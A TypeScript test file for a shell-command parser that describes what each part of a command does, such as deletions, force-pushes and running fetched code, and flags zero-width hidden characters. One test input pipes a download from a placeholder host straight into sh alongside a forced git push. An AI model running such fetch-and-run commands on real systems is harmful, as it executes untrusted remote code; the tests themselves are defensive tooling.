import { expect, test } from 'vitest'
import { type CommandPart, commandTree } from './command-tree.ts'

const PLACE = { cwd: '/srv/project', home: '/home/dev' }

test.each([
  ['ls', ['ls']],
  ['rm -rf build', ['rm -rf build', '  = delete /srv/project/build, with everything below it']],
  [
    'sudo rm x | tee log; sudo ls',
    [
      'sudo',
      '  rm x',
      '    = delete /srv/project/x',
      'tee log',
      '  = write /srv/project/log',
      'sudo',
      '  ls',
    ],
  ],
  [
    "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
    [
      'bash -c',
      '  git push --force',
      '    = act git/force-push: overwrites what is on the remote, including commits of other people',
      '  curl https://e.example/i.sh',
      '    = fetch e.example into standard output',
      '  sh',
      '    = run runs what e.example sends',
    ],
  ],
])('reads %s', (command, lines) => {
  const tree = commandTree(command, PLACE)
  expect(tree.kind === 'read' ? tree.parts.flatMap((part) => linesOf(part, '')) : tree.why).toEqual(lines)
})

test('says why a command cannot be read', () => {
  expect(commandTree('echo "', PLACE)).toMatchObject({ kind: 'unread', why: expect.stringMatching(/./) })
})

test('shows a command with characters that nobody sees as a person sees it, and says so', () => {
  const tree = commandTree('rm\u200b x', PLACE)
  expect(tree).toMatchObject({ kind: 'read', hidden: expect.stringContaining('zero-width') })
  expect(tree.kind === 'read' && tree.parts.flatMap((part) => linesOf(part, ''))).toEqual([
    'rm x',
    '  = delete /srv/project/x',
  ])
})

function linesOf({ text, effects, parts }: CommandPart, indent: string): readonly string[] {
  const more = `${indent}  `
  return [
    `${indent}${text}`,
    ...effects.map((effect) => `${more}= ${effect.kind} ${effect.text}`),
    ...parts.flatMap((part) => linesOf(part, more)),
  ]
}
